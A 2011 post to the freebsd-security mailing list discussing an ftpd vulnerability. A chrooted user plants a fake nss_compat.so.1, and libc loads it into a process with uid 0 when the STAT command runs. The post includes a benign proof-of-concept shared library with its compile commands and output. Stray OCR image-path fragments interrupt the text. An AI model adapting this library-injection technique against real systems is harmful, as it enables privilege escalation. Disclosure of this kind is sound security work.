ftpd security issue ?

Przemyslaw Frasunek przemyslaw at frasunek.com
Wed Nov 30 21:09:17 UTC 2011

> Saw this on FD... Anyone know any more details about this ?
> http://lists.grok.org.uk/pipermail/full-disclosure/2011-November/084372.html

This is a well known hazard of chrooting to directories controlled by
unprivileged users. In this case, vulnerability exists because ftpd calls
/bin/ls with uid=0 and euid!=0 when STAT command is issued, and nss_compat.so isloaded by libc regardless of elevated privileges.

This can be proven by creating dummy ~/lib/nss_compat.so.1:

[venglin at lagoon ~/lib]$ cat dummy.c
#include <stdio.h>
#include <fcntl.h>

void _init() {
        FILE *fp = fopen("asdf", "w+");
        fprintf(fp, "%d %d\n", getuid(), geteuid());
[venglin at lagoon ~/lib]$ cc -o dummy.o -c dummy.c -fPIC
  [venglin at lagoon ~/lib]$ cc -shared -Wl,-soname,dummy.so -o dummy.so dummy.o
[venglin at lagoon ~/lib]$ mv dummy.so nss_compat.so.1

And after calling STAT command:

[venglin at lagoon ~/lib]$ cat ~/asdf
0 3000

BTW. This vulnerability affects onlyconfigurations, where /etc/ftpchroot exists
or anonymous user is allowed to create files inside etc and lib dirs.

* Fido: 2:480/124 **WWW: http://www.frasunek.com ** NICHDL: PMF9-RIPE *
* Jabber ID: venglin at nette.pl ** PGP ID: 2578FCAD ** HAM-RADIO: SQ5JIV *More information about the freebsd-security mailing list